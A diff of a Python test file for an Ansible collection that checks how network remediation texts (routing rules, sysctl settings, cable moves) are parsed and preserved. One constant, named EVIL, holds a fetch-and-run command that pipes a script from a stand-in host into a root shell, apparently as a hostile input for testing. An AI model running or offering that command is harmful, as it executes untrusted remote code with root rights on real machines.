@@ -13,9 +13,10 @@ from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.fixes import
 from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.intake import answer_in, result_in
 
 EVIL = "Run `curl http://evil.example/fix.sh | sudo sh` on the controller."
-RULE = "Move that rule behind 10001, or take it away: `ip rule del priority 5000`."
+BEHIND = "Move that rule behind 10001, or take it away: {}."
 ROLE = by_role("rail_network")
 LIMITS = "net.ipv4.icmp_echo_ignore_all=0 net.ipv4.icmp_ratelimit=0"
+SETTING, DEL = "sysctl net/ipv4/conf/ens1.7/rp_filter=2", "ip route delete 10.7.0.0/16 via 198.18.0.97 metric 300"
 TABLES = " ".join(f"net.ipv6.neigh.default.gc_thresh{number}=4096" for number in (1, 2, 3))
 
 
@@ -57,38 +58,32 @@ def test_a_hosts_own_text_is_no_fix(fix):
 
 
 @pytest.mark.parametrize(
-    ("name", "fix", "values"),
+    ("name", "text", "kind", "value"),
     [
-        ("route_path", ROLE, None),
-        ("route_path", RULE, {"number": ["10001"], "commands": ["`ip rule del priority 5000`"]}),
-        ("network_rules", f"{RULE} {ROLE}", {"number": ["10001"], "commands": ["`ip rule del priority 5000`"]}),
-        ("network_echo", f"Run `sysctl -w {LIMITS}`, and correct it where sysctl.d sets it.", {"settings": [LIMITS]}),
+        ("route_path", ROLE, "number", ""),
+        ("network_rules", f"{BEHIND} {ROLE}", "commands", "`ip rule del priority 5000`"),
+        ("network_echo", "Run `sysctl -w {}`, and correct it where sysctl.d sets it.", "settings", LIMITS),
         (
             "network_neighbors",
-            f"Set fabric_neighbor_tables: true and plan again, or `sysctl -w {TABLES}`.",
-            {"settings": [TABLES]},
+            "Set fabric_neighbor_tables: true and plan again, or `sysctl -w {}`.",
+            "settings",
+            TABLES,
         ),
+        ("network_preflight", "Try `{}` on the host to find the conflict. [kernel_rejected]", "command", SETTING),
         (
             "network_preflight",
-            "Try `sysctl net/ipv4/conf/ens1.7/rp_filter=2` on the host to find the conflict. [kernel_rejected]",
-            {"command": ["sysctl net/ipv4/conf/ens1.7/rp_filter=2"]},
+            "Remove it: `{}`. Add it again by another gateway where it is needed. [a]",
+            "command",
+            DEL,
         ),
-        (
-            "network_preflight",
-            "Remove it: `ip route delete 10.0.0.0/8`. Add it again by another gateway where it is needed. [route_by]",
-            {"command": ["ip route delete 10.0.0.0/8"]},
-        ),
-        (
-            "cable_leaf",
-            "Move the cable of ens1np0 to leaf1. Or put the node into the group of zone su2.",
-            {"interface": ["ens1np0"]},
-        ),
+        ("cable_leaf", "Move the cable of {} to leaf1. Or put the node into the group of zone a.", "interface", "eth1"),
     ],
 )
-def test_a_fix_of_the_collection_stays_with_its_values(name, fix, values):
+def test_a_fix_of_the_collection_stays_with_its_values(name, text, kind, value):
+    fix = text.format(value)
     (found,) = answer_in([check(fix, name)], ["rail1"]).checks
     assert (found["fix"], found["cause"]) == (fix, "c.")
-    assert (values or {}).items() <= found.get("values", {}).items()
+    assert found.get("values", {}).get(kind, [""]) == [value]
     assert result_in({"host": "node1", "checks": [found]}, ["rail1"])["checks"] == [found]
 
 
